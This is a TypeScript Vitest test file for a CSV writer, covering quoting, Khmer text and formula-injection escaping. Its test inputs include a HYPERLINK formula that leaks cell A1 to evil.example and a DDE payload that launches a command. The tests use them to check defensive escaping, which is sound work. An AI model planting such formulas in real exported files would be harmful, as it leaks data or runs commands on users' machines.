import { describe, expect, it } from 'vitest'
import { csvLine, toCsv, toCsvBytes, unescapeFormula } from './csv.ts'

describe('CSV writer', () => {
  it('ends every record with CRLF, the last one included', () => {
    expect(
      toCsv([
        ['a', 'b'],
        [1, 2],
      ]),
    ).toBe('a,b\r\n1,2\r\n')
  })

  it('quotes fields with commas, quotes or line breaks and doubles inner quotes', () => {
    expect(toCsv([['Poipet, Banteay Meanchey', 'say "hi"', 'two\nlines', 'plain']])).toBe(
      '"Poipet, Banteay Meanchey","say ""hi""","two\nlines",plain\r\n',
    )
  })

  it('writes empty fields for null, undefined and non-finite numbers', () => {
    expect(toCsv([[null, undefined, Number.NaN, 0]])).toBe(',,,0\r\n')
  })

  it('keeps Khmer text intact and starts with a byte order mark when asked, for Excel', () => {
    const bytes = toCsvBytes([['ខេត្ត', 'បន្ទាយមានជ័យ']], { bom: true })
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    expect(new TextDecoder().decode(bytes.slice(3))).toBe('ខេត្ត,បន្ទាយមានជ័យ\r\n')
    expect(toCsv([['x']])).toBe('x\r\n')
  })

  it('defuses text a spreadsheet would run as a formula but leaves numbers and hashtags alone', () => {
    expect(toCsv([['=HYPERLINK("x")', '@SUM(1)', -5, '#affected+f']])).toBe(
      `"'=HYPERLINK(""x"")",'@SUM(1),-5,#affected+f\r\n`,
    )
  })

  it.each([
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    '@SUM(A1:A2)',
    '+SUM(A1:A2)',
    '-2+3',
    '\t=1+1',
    '\r=1+1',
    "'=already quoted",
    "'plain apostrophe",
    'ស្រីលក្ខណ៍, "ចាន់"',
    'plain',
  ])('neutralises %j so no spreadsheet runs it, and unescapes it back exactly', (value) => {
    const written = toCsv([[value]])
    expect(written).not.toMatch(/^"?[=+\-@\t\r]/)
    const cell = written.startsWith('"') ? written.slice(1, -3).replaceAll('""', '"') : written.slice(0, -2)
    expect(unescapeFormula(cell)).toBe(value)
  })

  it('leaves values that only contain a formula character alone', () => {
    expect(csvLine(['a=b', 'x@y', '1+1'])).toBe('a=b,x@y,1+1\r\n')
    expect(unescapeFormula("it's")).toBe("it's")
  })
})
